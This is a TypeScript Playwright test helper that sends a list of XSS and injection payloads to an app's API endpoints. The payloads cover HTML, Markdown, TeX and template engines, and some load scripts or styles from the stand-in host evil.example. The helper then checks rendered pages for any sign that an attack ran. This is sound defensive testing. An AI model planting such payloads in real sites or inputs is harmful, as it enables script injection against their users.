import { type APIRequestContext, expect, type Page } from '@playwright/test'
import { z } from 'zod'
import type { Endpoint } from '#domain/endpoint.ts'

/** Part of every attack; if it is visible, the attack was rendered as text. */
export const mark = 'hacked=1'

/** Known injection vectors for HTML, Markdown, TeX and templates. */
const attacks = [
  `"><img src=x onerror=${mark}>`,
  `</title></textarea><script>${mark}</script>`,
  `[x](javascript:${mark})`,
  `<svg/onload=${mark}>`,
  `$\\href{javascript:${mark}}{x}$`,
  `<a href=" java\tscript:${mark}">x</a>`,
  `<iframe srcdoc="<script>parent.${mark}</script>"></iframe>`,
  `{{constructor.constructor('${mark}')()}}\${${mark}}`,
  `![x" onerror="${mark}](/api/files/x.png)`,
  `![${mark}](https://evil.example/pixel.png)`,
  `$\\htmlData{x=1" onmouseover="${mark}}{y}$`,
  `$\\htmlStyle{background:url(https://evil.example/${mark})}{y}$`,
  `$\\url{javascript:${mark}}\\includegraphics{https://evil.example/${mark}}$`,
  `\\ce{H2O"><img src=x onerror=${mark}>}`,
  `<javascript:${mark}>`,
  `[x][y]\n\n[y]: javascript:${mark}`,
  `[x](data:text/html;base64,PHNjcmlwdD4=,${mark})`,
  `<style>@import "https://evil.example/${mark}.css";</style>`,
  `<p style="background:url(https://evil.example/${mark})" onclick="${mark}">x</p>`,
  `<noscript><p title="</noscript><img src=x onerror=${mark}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${mark}>">`,
  `<base href="https://evil.example/${mark}/"><meta http-equiv=refresh content="0;url=javascript:${mark}">`,
  `<form action="javascript:${mark}"><button formaction="javascript:${mark}">x</button></form>`,
  `<object data="javascript:${mark}"></object><embed src="javascript:${mark}">`,
  `--></script><script src="https://evil.example/${mark}.js"></script>`,
]

let nextAttack = 0

/** As many attacks as fit into `room` characters, starting with the next one at each call. */
export function attackText(room: number): string {
  nextAttack += 1
  const from = nextAttack % attacks.length
  let text = ''
  for (const attack of [...attacks.slice(from), ...attacks.slice(0, from)]) {
    if (text.length + attack.length < room) text += ` ${attack}`
  }
  return text.trim() || `<b>${mark}`.slice(0, room)
}

type Schema = {
  type?: string
  enum?: unknown[]
  const?: unknown
  format?: string
  pattern?: string
  maxLength?: number
  anyOf?: Schema[]
  items?: Schema | false
  properties?: Record<string, Schema>
}

function hostileValue(schema: Schema): unknown {
  if (schema.anyOf) {
    const forms = schema.anyOf.map(hostileValue).filter((value) => value !== undefined)
    return forms.find((value) => typeof value === 'object') ?? forms[0]
  }
  if (schema.enum || 'const' in schema || schema.format || schema.pattern) return undefined
  if (schema.type === 'string') return attackText(Math.min(schema.maxLength ?? 5000, 5000))
  if (schema.type === 'array') {
    const item = hostileValue(schema.items || {})
    return item === undefined ? undefined : [item]
  }
  if (schema.type !== 'object' || !schema.properties) return undefined
  const filled = Object.entries(schema.properties).map(([name, field]) => [name, hostileValue(field)] as const)
  return Object.fromEntries(filled.filter(([, value]) => value !== undefined))
}

/** Input with an attack in every text field, and the given values. Fields whose validation rejects attacks are omitted. */
export function hostileInput({ input, path }: Endpoint, given: object): object {
  const schema = z.toJSONSchema(input, { io: 'input', unrepresentable: 'any' }) as Schema
  const filled: Record<string, unknown> = { ...(hostileValue(schema) as object), ...given }
  for (;;) {
    const issues = input.safeParse(filled).error?.issues ?? []
    const field = issues.map((issue) => String(issue.path[0])).find((name) => name in filled && !(name in given))
    if (issues.length === 0) return filled
    if (!field) throw new Error(`${path}: ${issues[0]?.path.join('.')} ${issues[0]?.message}`)
    delete filled[field]
  }
}

/** Returns a function that calls an endpoint with hostile input and returns the id of the created record. */
export function attacker(request: APIRequestContext, token: string) {
  return async (endpoint: Endpoint, given: object = {}, params: Record<string, string> = {}, as = token): Promise<string> => {
    const path = endpoint.path.replaceAll(/\{(\w+)\}/g, (_, name: string) => encodeURIComponent(params[name] ?? ''))
    const response = await request.fetch(`/api${path}`, {
      method: endpoint.method,
      headers: { authorization: `Bearer ${as}` },
      data: hostileInput(endpoint, given),
    })
    expect(response.ok(), `${endpoint.path}: ${await response.text()}`).toBe(true)
    const body = (await response.json()) as { _id?: string; data?: { _id?: string } }
    return body._id ?? body.data?._id ?? ''
  }
}

/** Records dialogs, requests, navigations and policy violations that only a successful attack would cause. */
export async function watchForAttacks(page: Page, origin: string): Promise<{ seen: string[] }> {
  const seen: string[] = []
  page.on('dialog', (dialog) => {
    seen.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('request', (request) => {
    if (new URL(request.url()).host.includes('evil')) seen.push(`request to ${request.url()}`)
  })
  page.on('framenavigated', (frame) => {
    const isOurs = frame.url().startsWith(`${origin}/`) || ['about:blank', ''].includes(frame.url())
    if (!isOurs) seen.push(`went to ${frame.url()}`)
  })
  await page.exposeFunction('reportViolation', (violation: string) => void seen.push(violation))
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) => {
      const { reportViolation } = window as unknown as { reportViolation(violation: string): void }
      reportViolation(`${violatedDirective} ${blockedURI} ${sample}`)
    })
  })
  return { seen }
}

/** Elements of the page that would run a script, load something or navigate elsewhere. */
export function findDangers(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const dangers = 'hacked' in window ? ['an attack has run'] : []
    for (const element of document.querySelectorAll('*')) {
      const html = element.outerHTML.slice(0, 200)
      for (const { name, value } of element.attributes) {
        if (name.startsWith('on')) dangers.push(html)
        if (
          /^(href|src|action|formaction|data|xlink:href)$/.test(name) &&
          /^(javascript|vbscript|data:text)/i.test(value.replaceAll(/[^a-z:]/gi, ''))
        )
          dangers.push(html)
        if (name === 'srcdoc' || (name === 'style' && value.includes('evil'))) dangers.push(html)
      }
      const isOurs =
        element instanceof HTMLScriptElement && (element.src.startsWith(location.origin) || element.type === 'application/ld+json')
      if (element.matches('iframe, object, embed, base, meta[http-equiv=refresh], link[href*=evil], [src*=evil]')) dangers.push(html)
      if (element instanceof HTMLScriptElement && !isOurs) dangers.push(html)
      if (element instanceof HTMLStyleElement && element.textContent.includes('evil')) dangers.push(html)
    }
    return dangers
  })
}

/** All visible text of the page, including form fields. */
export function visibleText(page: Page): Promise<string> {
  return page.evaluate(() => {
    const fields = [...document.querySelectorAll<HTMLInputElement | HTMLTextAreaElement>('input, textarea')].map(({ value }) => value)
    return [document.body.textContent, ...fields].join('\n')
  })
}
